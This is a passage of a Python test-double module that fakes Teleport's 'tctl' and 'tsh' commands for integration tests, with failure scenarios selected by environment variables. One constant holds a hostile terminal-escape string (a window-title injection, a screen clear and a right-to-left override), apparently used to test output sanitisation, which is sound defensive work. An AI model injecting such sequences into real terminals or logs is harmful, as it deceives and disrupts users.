"""Fake `tctl` and `tsh` for tsh-review's integration tests.

Standard library only.  The entry points are tests/fakes/bin/tctl and
tests/fakes/bin/tsh; they call main(prog, argv).  Behaviour is steered only
by environment variables, see tests/fakes/README.md.

Output formats and error texts follow SPEC.md section 4 (Teleport 18.8):
JSON like Go's json.MarshalIndent(v, "", "    "), errors as
"ERROR: <message>" on stderr with exit status 1, kingpin-style usage errors.
"""

import calendar
import datetime
import gzip
import hashlib
import json
import os
import re
import shlex
import signal
import subprocess
import sys
import time

EXIT_FAKE_MISUSE = 97  # the test itself is wrong (bad env var, missing data file)

DEFAULT_PROXY = "teleport.example.com:443"
DEFAULT_CLUSTER = "teleport.example.com"
DEFAULT_USER = "alice"
DEFAULT_VERSION = "18.8.1"
CLIENT_VERSION = "18.8.1"
GO_RUNTIME = "go1.24.4"

NS = 1_000_000_000
HOUR_NS = 3600 * NS
DAY_NS = 24 * HOUR_NS

GENERIC_SCENARIOS = {
    "ok", "access-denied", "not-logged-in", "no-profile", "expired-profile",
    "expired-creds", "hang", "die", "garbage", "truncated", "stderr-flood",
    "close-early", "slow", "hostile-error", "hang-setsid",
}
TCTL_ONLY_SCENARIOS = {
    "search-no-access-graph", "search-no-pg-trgm", "search-no-pgvector",
    "search-unknown-service", "search-old-tctl", "search-unknown-command",
    "download-die", "download-hang", "summary-old-tctl", "summary-denied", "summary-hang",
}
TSH_ONLY_SCENARIOS = {"no-proxy", "play-slow", "play-hang", "play-flood"}

AUTH_ERRORS = {
    "not-logged-in": "Not logged in.",
    "no-profile": "No active profile.",
    "expired-profile": "Active profile expired.",
    "expired-creds": "your credentials have expired, please login using `tsh login`",
}

# Not found: tsh play in pty mode (tool/tsh/common/play.go) rewrites the server's not-found error;
# json, yaml and text pass the server's own text on (lib/events), as tctl's download does.
PLAY_PTY_NOT_FOUND = "Recording for session {} not found."
RECORDING_NOT_FOUND = "a recording for session {} was not found"
# lib/client/api.go, playSession: only pty mode refuses a desktop.
PLAY_PTY_DESKTOP = ("Desktop sessions cannot be played with tsh play. Export the recording to video "
                    "with tsh recordings export or view the recording in your web browser.")
UUID_RE = re.compile(r"[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}")

SEARCH_UNAVAILABLE = {
    "search-no-access-graph":
        "session search requires Access Graph to be enabled with session recording support",
    "search-no-pg-trgm":
        "session search requires the pg_trgm PostgreSQL extension to be installed",
    "search-no-pgvector":
        "session search requires the pgvector PostgreSQL extension to be installed",
    "search-unknown-service":
        "unknown service teleport.sessionsearch.v1.SessionSearchService",
}

HOSTILE_ERROR = "boom \x1b]0;owned\x07 \x1b[2J \u202e evil"
EMPTY_QUERY_ERROR = "invalid search request: query must not be empty"
PROPERTY_CONFLICT_ERROR = "resource property filters can only target one session kind"


# --------------------------------------------------------------------------
# Small helpers
# --------------------------------------------------------------------------

class Misuse(Exception):
    """The fake was configured wrongly by the test (exit 97)."""


class Usage(Exception):
    """A kingpin-style command-line error (ERROR: ..., exit 1)."""


class Result:
    """What a command would do if the cluster behaved normally."""

    def __init__(self, out=b"", err=b"", code=0, effect=None, tui_hang=False):
        self.out = out if isinstance(out, bytes) else out.encode("utf-8")
        self.err = err if isinstance(err, bytes) else err.encode("utf-8")
        self.code = code
        self.effect = effect      # side effect (download writes files) run before output
        self.tui_hang = tui_hang  # `recordings search` without --format=json


def env(name, default=None):
    v = os.environ.get(name)
    return default if v is None or v == "" else v


def error_line(message):
    prefix = "ERROR:" if env("FAKE_COLOR") == "0" else "\x1b[31mERROR:\x1b[0m"
    return f"{prefix} {message}\n"


def fail(message):
    return Result(err=error_line(message), code=1)


def log_argv(prog, argv):
    path = env("FAKE_ARGV_LOG")
    if not path:
        return
    line = json.dumps({"prog": prog, "argv": list(argv)}) + "\n"
    fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
    try:
        os.write(fd, line.encode("utf-8", "surrogateescape"))
        os.fsync(fd)
    finally:
        os.close(fd)


def sleep_forever():
    while True:
        time.sleep(3600)


def write_pidfile(pids):
    path = env("FAKE_PIDFILE")
    if not path:
        return
    tmp = f"{path}.tmp.{os.getpid()}"
    with open(tmp, "w") as f:
        f.write("".join(f"{p}\n" for p in pids))
    os.replace(tmp, path)


def kill_self():
    try:
        sys.stdout.flush()
        sys.stderr.flush()
    except Exception:
        pass
    os.kill(os.getpid(), signal.SIGKILL)
    sleep_forever()


# --------------------------------------------------------------------------
# Time
# --------------------------------------------------------------------------

_RFC3339 = re.compile(
    r"^(\d{4})-(\d{2})-(\d{2})[Tt ](\d{2}):(\d{2}):(\d{2})(?:\.(\d{1,9}))?"
    r"(?:([Zz])|([+-])(\d{2}):?(\d{2}))$")


def parse_rfc3339_ns(s):
    """RFC3339 with up to 9 fractional digits -> integer ns since the epoch (UTC)."""
    if not isinstance(s, str):
        return None
    m = _RFC3339.match(s.strip())
    if not m:
        return None
    y, mo, d, h, mi, sec = (int(m.group(i)) for i in range(1, 7))
    frac = (m.group(7) or "").ljust(9, "0")
    try:
        datetime.datetime(y, mo, d, h, mi, min(sec, 59))
    except ValueError:
        return None
    secs = calendar.timegm((y, mo, d, h, mi, sec, 0, 0, 0))
    if m.group(9):
        off = (int(m.group(10)) * 60 + int(m.group(11))) * 60
        secs -= off if m.group(9) == "+" else -off
    return secs * NS + int(frac)


def parse_date_ns(s):
    """Go's time.Parse("2006-01-02", s): midnight UTC, or None."""
    if not re.fullmatch(r"\d{4}-\d{2}-\d{2}", s or ""):
        return None
    y, mo, d = int(s[0:4]), int(s[5:7]), int(s[8:10])
    if not 1 <= mo <= 12:
        return None
    mdays = [31, 29 if (y % 4 == 0 and (y % 100 != 0 or y % 400 == 0)) else 28,
             31, 30, 31, 30, 31, 31, 30, 31, 30, 31][mo - 1]
    if not 1 <= d <= mdays:
        return None
    return calendar.timegm((y, mo, d, 0, 0, 0, 0, 0, 0)) * NS


def format_rfc3339(ns):
    secs, frac = divmod(ns, NS)
    base = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(secs))
    if frac:
        base += "." + f"{frac:09d}".rstrip("0")
    return base + "Z"


def now_ns():
    v = env("FAKE_NOW")
    if v is None:
        return time.time_ns()
    ns = parse_rfc3339_ns(v)
    if ns is None:
        raise Misuse(f"FAKE_NOW is not RFC3339: {v!r}")
    return ns


_GO_DUR = re.compile(r"(\d+(?:\.\d*)?|\.\d+)(ns|us|µs|ms|s|m|h)")
_GO_UNITS = {"ns": 1, "us": 1000, "µs": 1000, "ms": 10**6, "s": NS, "m": 60 * NS, "h": HOUR_NS}


def parse_go_duration(s):
    if s in ("0", "+0", "-0"):
        return 0
    sign = 1
    if s[:1] in "+-":
        sign = -1 if s[0] == "-" else 1
        s = s[1:]
    pos, total = 0, 0.0
    if not s:
        return None
    while pos < len(s):
        m = _GO_DUR.match(s, pos)
        if not m:
            return None
        total += float(m.group(1)) * _GO_UNITS[m.group(2)]
        pos = m.end()
    return sign * int(total)


def go_float(f):
    """fmt's %v for a float64 (shortest representation, no trailing .0)."""
    if f == int(f) and abs(f) < 1e21:
        return str(int(f))
    r = repr(f)
    if "e" in r:
        mant, exp = r.split("e")
        sign = "-" if exp.startswith("-") else "+"
        r = f"{mant}e{sign}{abs(int(exp)):02d}"
    return r


def go_hours_days(duration_ns):
    """time.Duration.Hours() / 24, computed the way Go does."""
    hours, rem = divmod(duration_ns, HOUR_NS)
    return (float(hours) + float(rem) / 3.6e12) / 24


# --------------------------------------------------------------------------
# Go-compatible JSON (encoding/json MarshalIndent with 4 spaces)
# --------------------------------------------------------------------------

def _go_string(s):
    out = ['"']
    for ch in s:
        o = ord(ch)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif o < 0x20 or ch in "<>&" or o in (0x2028, 0x2029):
            out.append(f"\\u{o:04x}")
        elif 0xD800 <= o <= 0xDFFF:
            out.append("\ufffd")  # Go replaces invalid UTF-8
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def _go_json(v, indent, level):
    pad = indent * (level + 1)
    if v is None:
        return "null"
    if v is True:
        return "true"
    if v is False:
        return "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, float):
        if v == int(v) and abs(v) < 1e21:
            return str(int(v))
        return repr(v)
    if isinstance(v, str):
        return _go_string(v)
    if isinstance(v, dict):
        if not v:
            return "{}"
        items = [f"{pad}{_go_string(str(k))}: {_go_json(x, indent, level + 1)}" for k, x in v.items()]
        return "{\n" + ",\n".join(items) + "\n" + indent * level + "}"
    if isinstance(v, (list, tuple)):
        if not v:
            return "[]"
        items = [pad + _go_json(x, indent, level + 1) for x in v]
        return "[\n" + ",\n".join(items) + "\n" + indent * level + "]"
    raise TypeError(f"cannot encode {type(v)}")


def go_json(v):
    text = _go_json(v, "    ", 0)
    if env("FAKE_JSON_NEWLINE", "1") != "0":
        text += "\n"
    return text


def simple_yaml(v, level=0):
    """A small block-style YAML emitter (strings JSON-quoted); enough for humans."""
    pad = "  " * level
    if isinstance(v, dict):
        if not v:
            return pad + "{}\n"
        out = []
        for k, x in v.items():
            key = json.dumps(str(k), ensure_ascii=True) if not re.fullmatch(r"[A-Za-z0-9_.\-/]+", str(k)) else str(k)
            if isinstance(x, (dict, list)) and x:
                out.append(f"{pad}{key}:\n" + simple_yaml(x, level + 1))
            else:
                out.append(f"{pad}{key}: " + simple_yaml(x, 0).strip() + "\n")
        return "".join(out)
    if isinstance(v, list):
        if not v:
            return pad + "[]\n"
        out = []
        for x in v:
            body = simple_yaml(x, level + 1)
            out.append(f"{pad}- " + body.lstrip())
        return "".join(out)
    if v is None:
        return pad + "null\n"
    if isinstance(v, bool):
        return pad + ("true" if v else "false") + "\n"
    if isinstance(v, (int, float)):
        return pad + str(v) + "\n"
    return pad + json.dumps(v, ensure_ascii=True) + "\n"


# --------------------------------------------------------------------------
# kingpin-like parser
# --------------------------------------------------------------------------

class Flag:
    def __init__(self, name, short=None, kind="str", repeat=False, enum=None, default=None):
        self.name, self.short, self.kind = name, short, kind
        self.repeat, self.enum, self.default = repeat, enum, default


class Cmd:
    def __init__(self, name, flags=(), args=(), subs=None, hidden=False):
        self.name = name
        self.flags = list(flags)
        self.args = list(args)  # (name, required, variadic)
        self.subs = subs or {}
        self.hidden = hidden


class Parsed:
    def __init__(self):
        self.path = []
        self.values = {}
        self.args = []
        self.help = False


def _set_value(parsed, flag, raw, token):
    if flag.kind == "bool":
        val = raw
    elif flag.kind == "int":
        try:
            val = int(raw, 0)
        except ValueError:
            raise Usage(f'strconv.ParseInt: parsing "{raw}": invalid syntax')
    else:
        val = raw
    if flag.enum is not None and val not in flag.enum:
        raise Usage(f"enum value must be one of {','.join(flag.enum)}, got '{val}'")
    if flag.repeat:
        parsed.values.setdefault(flag.name, []).append(val)
    else:
        if flag.name in parsed.values:
            raise Usage(f"flag '{flag.name}' cannot be repeated")
        parsed.values[flag.name] = val


def kingpin_parse(root, argv, missing_command_error=None):
    """Parse argv against a command tree the way kingpin v2 does (approximately).

    missing_command_error(name, cmd) may return a custom message when a
    subcommand name is unknown.
    """
    parsed = Parsed()
    cmd = root
    longs = {f.name: f for f in root.flags}
    shorts = {f.short: f for f in root.flags if f.short}
    longs["help"] = Flag("help", "h", kind="bool")
    shorts["h"] = longs["help"]
    i = 0
    only_args = False
    while i < len(argv):
        a = argv[i]
        i += 1
        if not only_args and a == "--":
            only_args = True
            continue
        if not only_args and a.startswith("--"):
            name, eq, val = a[2:].partition("=")
            flag = longs.get(name)
            negate = False
            if flag is None and name.startswith("no-") and longs.get(name[3:]) and longs[name[3:]].kind == "bool":
                flag, negate = longs[name[3:]], True
            if flag is None:
                raise Usage(f"unknown long flag '--{name}'")
            if flag.kind == "bool":
                value = "false" if negate else (val if eq else "true")
                if flag.name == "help":
                    parsed.help = True
                    continue
                _set_value(parsed, flag, value not in ("false", "0"), a)
                continue
            if not eq:
                if i >= len(argv) or (argv[i].startswith("-") and len(argv[i]) > 1):
                    raise Usage(f"expected argument for flag '--{name}'")
                val = argv[i]
                i += 1
            _set_value(parsed, flag, val, a)
            continue
        if not only_args and a.startswith("-") and len(a) > 1:
            rest = a[1:]
            while rest:
                ch, rest = rest[0], rest[1:]
                flag = shorts.get(ch)
                if flag is None:
                    raise Usage(f"unknown short flag '-{ch}'")
                if flag.kind == "bool":
                    if flag.name == "help":
                        parsed.help = True
                    else:
                        _set_value(parsed, flag, True, a)
                    continue
                if rest:
                    val, rest = rest, ""
                else:
                    if i >= len(argv) or (argv[i].startswith("-") and len(argv[i]) > 1):
                        raise Usage(f"expected argument for flag '-{ch}'")
                    val = argv[i]
                    i += 1
                _set_value(parsed, flag, val, a)
            continue
        # a positional token
        if cmd.subs:
            sub = cmd.subs.get(a)
            if sub is None or sub.hidden:
                msg = missing_command_error(a, cmd) if missing_command_error else None
                raise Usage(msg or f'expected command but got "{a}"')
            cmd = sub
            parsed.path.append(a)
            for f in cmd.flags:
                longs[f.name] = f
                if f.short:
                    shorts[f.short] = f
            continue
        parsed.args.append(a)
    if parsed.help:
        return parsed
    if cmd.subs:
        raise Usage("command not specified")
    # positional arguments
    max_args = None if any(v for _, _, v in cmd.args) else len(cmd.args)
    for idx, (name, required, _variadic) in enumerate(cmd.args):
        if required and len(parsed.args) <= idx:
            raise Usage(f"required argument '{name}' not provided")
    if max_args is not None and len(parsed.args) > max_args:
        raise Usage(f"unexpected {parsed.args[max_args]}")
    for f in longs.values():
        if f.name not in parsed.values and f.default is not None:
            parsed.values[f.name] = [f.default] if f.repeat else f.default
    return parsed


def flag_names(root, path):
    cmd, names = root, [f.name for f in root.flags]
    for p in path:
        cmd = cmd.subs[p]
        names += [f.name for f in cmd.flags]
    return names, cmd


# --------------------------------------------------------------------------
# Data
# --------------------------------------------------------------------------

def load_json_object(var):
    path = env(var)
    if path is None:
        return {}
    try:
        with open(path, encoding="utf-8") as f:
            data = json.load(f)
    except (OSError, ValueError) as e:
        raise Misuse(f"{var}={path}: {e}")
    if not isinstance(data, dict):
        raise Misuse(f"{var}={path}: not a JSON object")
    return data


def load_json_array(var):
    path = env(var)
    if path is None:
        return []
    try:
        with open(path, encoding="utf-8") as f:
            data = json.load(f)
    except (OSError, ValueError) as e:
        raise Misuse(f"{var}={path}: {e}")
    if data is None:
        return []
    if not isinstance(data, list):
        raise Misuse(f"{var}={path}: not a JSON array")
    return data


SESSION_END_EVENTS = ("session.end", "db.session.end", "windows.desktop.session.end")


def find_ls_event(sid):
    """The event describing session `sid` in FAKE_LS_DATA (an *.end event wins)."""
    found = [ev for ev in load_json_array("FAKE_LS_DATA") if isinstance(ev, dict) and ev.get("sid") == sid]
    for ev in found:
        if ev.get("event") in SESSION_END_EVENTS:
            return ev
    return found[0] if found else None


def unrecorded(ev):
    """Sessions the fake treats as having no recording (tsh play / download fail)."""
    return (ev.get("recorded") is False or ev.get("session_recording") == "off"
            or ev.get("interactive") is False or ev.get("event") == "app.session.chunk")


# --------------------------------------------------------------------------
# tctl
# --------------------------------------------------------------------------

def tctl_tree(scenario):
    glob = [Flag("debug", "d", kind="bool"), Flag("config", "c"), Flag("auth-server"),
            Flag("identity", "i"), Flag("insecure", kind="bool")]
    ls_flags = [Flag("format", default="text"), Flag("from-utc"), Flag("to-utc"),
                Flag("limit", kind="int", default=50)]
    if env("FAKE_TCTL_HAS_LAST") == "1":
        ls_flags.append(Flag("last"))
    search_flags = [
        Flag("format", default="text"), Flag("from"), Flag("to"),
        Flag("kind", repeat=True, enum=["ssh", "db", "k8s", "desktop"]),
        Flag("username"), Flag("role", repeat=True),
        Flag("resource-kind", enum=["node", "kube_cluster", "db"]),
        Flag("resource-name"), Flag("label"), Flag("access-request", repeat=True),
        Flag("severity", repeat=True, enum=["low", "medium", "high", "critical"]),
        Flag("server-hostname"), Flag("server-addr"), Flag("pod-namespace"),
        Flag("pod-name"), Flag("database-name"),
        Flag("search-mode", enum=["hybrid", "keyword", "embeddings"], default="hybrid"),
        Flag("limit", kind="int", default=50),
    ]
    rec = {
        "ls": Cmd("ls", ls_flags),
        "search": Cmd("search", search_flags, args=[("query", False, True)],
                      hidden=scenario in ("search-old-tctl", "search-unknown-command")),
        "download": Cmd("download", [Flag("output", "o", default=".")],
                        args=[("session-id", True, False)]),
        # The v18 backport (August 2026); a tctl too old for search has neither.
        "summary": Cmd("summary", [Flag("format", default="text"), Flag("output", "o")],
                       args=[("session-id", True, False)],
                       hidden=scenario in ("summary-old-tctl", "search-old-tctl",
                                           "search-unknown-command")),
    }
    return Cmd("tctl", glob, subs={
        "recordings": Cmd("recordings", subs=rec),
        "version": Cmd("version", [Flag("format", default="text")]),
        "status": Cmd("status"),
    })


def tctl_missing_command(name, cmd):
    if cmd.name == "recordings" and name == "search" and env("FAKE_TCTL_SCENARIO") == "search-unknown-command":
        return 'unknown command "search"'
    return None


def tctl_version(p):
    ver = env("FAKE_PROXY_VERSION", DEFAULT_VERSION)
    if p.values.get("format") == "json":
        return Result(go_json({"version": ver, "gitref": f"v{ver}-0-gabc123", "runtime": GO_RUNTIME}))
    return Result(f"Teleport Enterprise v{ver} git:v{ver}-0-gabc123 {GO_RUNTIME}\n")


def tctl_status(p):
    cluster = env("FAKE_CLUSTER", DEFAULT_CLUSTER)
    ver = env("FAKE_PROXY_VERSION", DEFAULT_VERSION)
    return Result(f"Cluster:      {cluster}\nVersion:      {ver}\n"
                  "CA pins:      sha256:8f1b3c0de4e2c5f7a9d6b0e1c2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1\n")


def window_error(msg):
    return fail(f"cannot request recordings: {msg}")


def compute_window(now, from_s, to_s, last_s=None):
    """defaults.SearchSessionRange; returns (from_ns, to_ns) or a Result error."""
    if (from_s or to_s) and last_s:
        return window_error("use of 'since' is mutually exclusive with 'from-utc' and 'to-utc' flags")
    frm, to = now - DAY_NS, now
    if from_s:
        frm = parse_date_ns(from_s)
        if frm is None:
            return window_error("failed to parse session recording listing start time: "
                                f"expected format 2006-01-02, got {from_s}.")
    if to_s:
        to = parse_date_ns(to_s)
        if to is None:
            return window_error("failed to parse session recording listing end time: "
                                f"expected format 2006-01-02, got {to_s}.")
    if last_s:
        d = parse_go_duration(last_s)
        if d is None:
            return window_error(f"invalid duration provided to 'since': {last_s}: expected format: '5h30m40s'")
        frm = to - d
    if to > now:
        return window_error("invalid '--to-utc': '--to-utc' cannot be in the future")
    if frm > now:
        return window_error("invalid '--from-utc': '--from-utc' cannot be in the future")
    if frm > to:
        return window_error("invalid '--from-utc' time: 'from' must be before '--to-utc'")
    return frm, to


def ls_text_table(events):
    rows = [["ID", "Type", "Participants", "Hostname", "Timestamp"]]
    for ev in events:
        if ev.get("event") != "session.end":
            continue
        ns = parse_rfc3339_ns(ev.get("time"))
        ts = time.strftime("%b %d %H:%M:%S UTC", time.gmtime(ns // NS)) if ns is not None else ""
        ts = re.sub(r"^(\w{3}) 0", r"\1  ", ts)
        rows.append([str(ev.get("sid", "")), str(ev.get("proto", "")),
                     ", ".join(ev.get("participants") or []), str(ev.get("server_hostname", "")), ts])
    widths = [max(len(r[i]) for r in rows) for i in range(5)]
    lines = []
    for n, r in enumerate(rows):
        lines.append(" ".join(c.ljust(w) for c, w in zip(r, widths)) + " ")
        if n == 0:
            lines.append(" ".join("-" * w for w in widths) + " ")
    return "\n".join(lines) + "\n"


def tctl_ls(p, scenario):
    now = now_ns()
    w = compute_window(now, p.values.get("from-utc"), p.values.get("to-utc"), p.values.get("last"))
    if isinstance(w, Result):
        return w
    frm, to = w
    days = go_hours_days(to - frm)
    if days > 365:
        return fail(f"date range for recording listing too large: {go_float(days)} days specified: limit 365 days")
    if scenario == "access-denied":
        return fail('getting session events: access denied to perform action "list" on "session"')
    selected = []
    for idx, ev in enumerate(load_json_array("FAKE_LS_DATA")):
        if not isinstance(ev, dict):
            continue
        ns = parse_rfc3339_ns(ev.get("time"))
        if ns is None or ns < frm or ns > to:
            continue
        selected.append((ns, idx, ev))
    selected.sort(key=lambda t: (-t[0], t[1]))
    limit = p.values.get("limit", 50)
    if limit > 0 and env("FAKE_IGNORE_LIMIT") != "1":
        selected = selected[:limit]
    events = [ev for _, _, ev in selected]
    fmt = p.values.get("format", "text")
    if fmt == "json":
        if not events:
            empty = env("FAKE_EMPTY", "null")
            if empty not in ("null", "[]"):
                raise Misuse(f"FAKE_EMPTY must be null or [], got {empty!r}")
            return Result(empty + ("\n" if env("FAKE_JSON_NEWLINE", "1") != "0" else ""))
        return Result(go_json(events))
    if fmt == "yaml":
        return Result(simple_yaml(events) if events else "[]\n")
    if fmt == "text":
        return Result(ls_text_table(events))
    return fail(f'unknown format "{fmt}"')


def parse_label_spec(spec):
    labels = {}
    for part in spec.split(","):
        part = part.strip()
        if not part:
            continue
        k, eq, v = part.partition("=")
        k, v = k.strip(), v.strip()
        if not eq or not k:
            return None
        labels[k] = v
    return labels


def summary_start_ns(s):
    st = s.get("session_start")
    if not isinstance(st, dict):
        return None
    try:
        return int(st.get("seconds", 0)) * NS + int(st.get("nanos", 0) or 0)
    except (TypeError, ValueError):
        return None


def summary_properties(s, kind):
    props = s.get("resource_properties")
    if not isinstance(props, dict):
        return None
    t = props.get("Type")
    if not isinstance(t, dict):
        return None
    v = t.get(kind)
    return v if isinstance(v, dict) else None


def tctl_search(p, scenario):
    now = now_ns()
    from_s, to_s = p.values.get("from"), p.values.get("to")
    frm = to = None
    if from_s or to_s:
        frm_default = parse_date_ns(from_s) if from_s else None
        to_default = parse_date_ns(to_s) if to_s else None
        if from_s and frm_default is None:
            return window_error("failed to parse session recording listing start time: "
                                f"expected format 2006-01-02, got {from_s}.")
        if to_s and to_default is None:
            return window_error("failed to parse session recording listing end time: "
                                f"expected format 2006-01-02, got {to_s}.")
        if to_default is not None and to_default > now:
            return window_error("invalid '--to-utc': '--to-utc' cannot be in the future")
        if frm_default is not None and frm_default > now:
            return window_error("invalid '--from-utc': '--from-utc' cannot be in the future")
        if frm_default is not None and to_default is not None and frm_default > to_default:
            return window_error("invalid '--from-utc' time: 'from' must be before '--to-utc'")
        frm, to = frm_default, to_default
    # the server call
    if scenario in SEARCH_UNAVAILABLE:
        return fail(SEARCH_UNAVAILABLE[scenario])
    if scenario == "access-denied":
        return fail('access denied to perform action "read" on "session"')
    words = p.args
    if any(w == "" for w in words):
        return fail(EMPTY_QUERY_ERROR)
    groups = [
        ("Ssh", {"server-hostname": "server_hostname", "server-addr": "server_addr"}),
        ("Kubernetes", {"pod-namespace": "pod_namespace", "pod-name": "pod_name"}),
        ("Database", {"database-name": "database_name"}),
    ]
    used = [(kind, {fld: p.values[fl] for fl, fld in m.items() if p.values.get(fl) is not None})
            for kind, m in groups]
    used = [(k, f) for k, f in used if f]
    if len(used) > 1:
        return fail(PROPERTY_CONFLICT_ERROR)
    labels = None
    if p.values.get("label") is not None:
        labels = parse_label_spec(p.values["label"])
        if labels is None:
            return fail(f"invalid label spec: {p.values['label']}, should be 'key=value'")
    query_words = [w.lower() for arg in words for w in arg.split()]

    kinds = p.values.get("kind") or []
    roles = p.values.get("role") or []
    requests = p.values.get("access-request") or []
    out = []
    for idx, s in enumerate(load_json_array("FAKE_SEARCH_DATA")):
        if not isinstance(s, dict):
            continue
        st = summary_start_ns(s)
        if frm is not None and (st is None or st < frm):
            continue
        if to is not None and (st is None or st >= to):
            continue
        if kinds and s.get("kind") not in kinds:
            continue
        if p.values.get("username") is not None and s.get("username") != p.values["username"]:
            continue
        if roles and not set(roles) & set(s.get("user_roles") or []):
            continue
        if p.values.get("resource-kind") is not None and s.get("resource_kind") != p.values["resource-kind"]:
            continue
        if p.values.get("resource-name") is not None and s.get("resource_name") != p.values["resource-name"]:
            continue
        if requests and not set(requests) & set(s.get("access_request_ids") or []):
            continue
        if labels:
            have = s.get("resource_labels") or {}
            if any(have.get(k) != v for k, v in labels.items()):
                continue
        if used:
            kind, want = used[0]
            props = summary_properties(s, kind)
            if props is None or any(props.get(k) != v for k, v in want.items()):
                continue
        if query_words:
            text = str(s.get("_summary", "")).lower()
            if not any(w in text for w in query_words):
                continue
        out.append((st if st is not None else -1, idx, s))
    out.sort(key=lambda t: (-t[0], t[1]))
    limit = p.values.get("limit", 50)
    if limit > 0:
        out = out[:limit]
    items = [{k: v for k, v in s.items() if not str(k).startswith("_")} for _, _, s in out]
    if p.values.get("format") != "json":
        return Result(tui_hang=True)
    if not items:
        return Result("[]" + ("\n" if env("FAKE_JSON_NEWLINE", "1") != "0" else ""))
    return Result(go_json(items))


def fake_recording_bytes(sid, size=6144):
    """Deterministic pseudo-protobuf bytes, gzip-compressed (not a tar archive)."""
    chunks, h = [], hashlib.sha256(sid.encode()).digest()
    while sum(map(len, chunks)) < size:
        h = hashlib.sha256(h).digest()
        chunks.append(h)
    raw = b"\x0a\x24" + sid.encode()[:36] + b"".join(chunks)[:size]
    return gzip.compress(raw, mtime=0)


def tctl_download(p, scenario):
    sid = p.args[0]
    outdir = p.values.get("output", ".")
    if scenario == "access-denied":
        return fail('access denied to perform action "read" on "session"')
    ev = find_ls_event(sid)
    if ev is None or unrecorded(ev):
        return fail(RECORDING_NOT_FOUND.format(sid))
    target = os.path.normpath(os.path.join(outdir, f"{sid}.tar"))
    data = fake_recording_bytes(sid)

    def effect():
        os.makedirs(os.path.join(outdir, "multi"), exist_ok=True)
        os.makedirs(os.path.join(outdir, "pending"), exist_ok=True)
        with open(target, "wb") as f:
            if scenario in ("download-die", "download-hang"):
                f.write(data[: len(data) // 2])
                f.flush()
                if scenario == "download-hang":
                    write_pidfile([os.getpid()])
                    sleep_forever()
                kill_self()
            f.write(data)

    return Result(f'Session recording "{sid}" downloaded to {target}\n', effect=effect)


def tctl_summary(p, scenario):
    """`tctl recordings summary SID`: protojson (2-space indent, snake_case, enums as names,
    int64 as strings) with --format=json; a bold, coloured text form otherwise."""
    sid = p.args[0]
    if scenario in SEARCH_UNAVAILABLE:
        return fail(SEARCH_UNAVAILABLE[scenario])
    if scenario in ("access-denied", "summary-denied"):
        return fail('access denied to perform action "read" on "session"')
    if scenario == "summary-hang":
        write_pidfile([os.getpid()])
        sleep_forever()
    summary = load_json_object("FAKE_SUMMARY_DATA").get(sid)
    if summary is None:
        return fail(f"failed to get session summary: no summary found for session {sid}")
    fmt = p.values.get("format", "text")
    if fmt == "json":
        out = json.dumps(summary, indent=2, ensure_ascii=False) + "\n"
    elif fmt == "text":
        risk = summary.get("enhanced_summary", {}).get("risk_level", "")
        out = (f"\x1b[1mSession summary\x1b[0m\n\x1b[1mRisk:\x1b[0m {risk}\n\n"
               f"{summary.get('content', '')}\n")
    else:
        return fail(f'unknown format "{fmt}"')
    output = p.values.get("output")
    if output:
        # --output writes the summary to a file: tsh-review never passes it.
        def effect():
            with open(output, "w", encoding="utf-8") as f:
                f.write(out)
        return Result(f"Summary written to {output}\n", effect=effect)
    return Result(out)


def run_tctl(argv, scenario):
    root = tctl_tree(scenario)
    if argv and argv[0] in ("--completion-bash", "--completion-script-bash", "--completion-script-zsh"):
        return completion(root, "tctl", argv)
    try:
        p = kingpin_parse(root, argv, tctl_missing_command)
    except Usage as e:
        return fail(str(e))
    if p.help:
        return Result(f"Usage: tctl {' '.join(p.path)} [<flags>]\n")
    if p.path == ["version"]:
        return tctl_version(p)
    # every other command needs the client (the tsh profile)
    if scenario in AUTH_ERRORS:
        return fail(AUTH_ERRORS[scenario])
    if p.path == ["status"]:
        return tctl_status(p)
    if p.path == ["recordings", "ls"]:
        return tctl_ls(p, scenario)
    if p.path == ["recordings", "search"]:
        return tctl_search(p, scenario)
    if p.path == ["recordings", "download"]:
        return tctl_download(p, scenario)
    if p.path == ["recordings", "summary"]:
        return tctl_summary(p, scenario)
    return fail(f'expected command but got "{" ".join(p.path)}"')


# --------------------------------------------------------------------------
# tsh
# --------------------------------------------------------------------------

def tsh_tree():
    glob = [Flag("debug", "d", kind="bool"), Flag("proxy"), Flag("user"), Flag("login", "l"),
            Flag("cluster"), Flag("insecure", kind="bool"), Flag("identity", "i"), Flag("ttl")]
    return Cmd("tsh", glob, subs={
        "version": Cmd("version", [Flag("format", "f", default="text"), Flag("client", kind="bool")]),
        "status": Cmd("status", [Flag("format", "f", default="text"), Flag("verbose", "v", kind="bool")]),
        "play": Cmd("play", [
            Flag("speed", enum=["0.5x", "1x", "2x", "4x", "8x"], default="1x"),
            Flag("format", "f", enum=["pty", "json", "yaml", "text"], default="pty"),
            Flag("skip-idle-time", kind="bool"),
        ], args=[("session-id", True, False)]),
        "login": Cmd("login"),
        "logout": Cmd("logout"),
        "ls": Cmd("ls"),
        "ssh": Cmd("ssh", args=[("target", True, True)]),
        "recordings": Cmd("recordings", subs={"ls": Cmd("ls", [Flag("format", default="text")])}),
        "help": Cmd("help", args=[("command", False, True)]),
    })


def profile(now, active, expired=False):
    proxy = env("FAKE_PROXY", DEFAULT_PROXY)
    cluster = env("FAKE_CLUSTER", DEFAULT_CLUSTER)
    user = env("FAKE_USER", DEFAULT_USER)
    if active:
        if expired:
            valid = now - HOUR_NS
        elif env("FAKE_VALID_UNTIL"):
            valid = parse_rfc3339_ns(env("FAKE_VALID_UNTIL"))
            if valid is None:
                raise Misuse("FAKE_VALID_UNTIL is not RFC3339")
        else:
            valid = now + 8 * HOUR_NS
        return {
            "profile_url": f"https://{proxy}",
            "username": user,
            "active_requests": [],
            "cluster": cluster,
            "roles": ["access", "auditor"],
            "traits": {"logins": [user, "root", "ubuntu"]},
            "logins": [user, "root", "ubuntu"],
            "kubernetes_enabled": True,
            "kubernetes_users": [user],
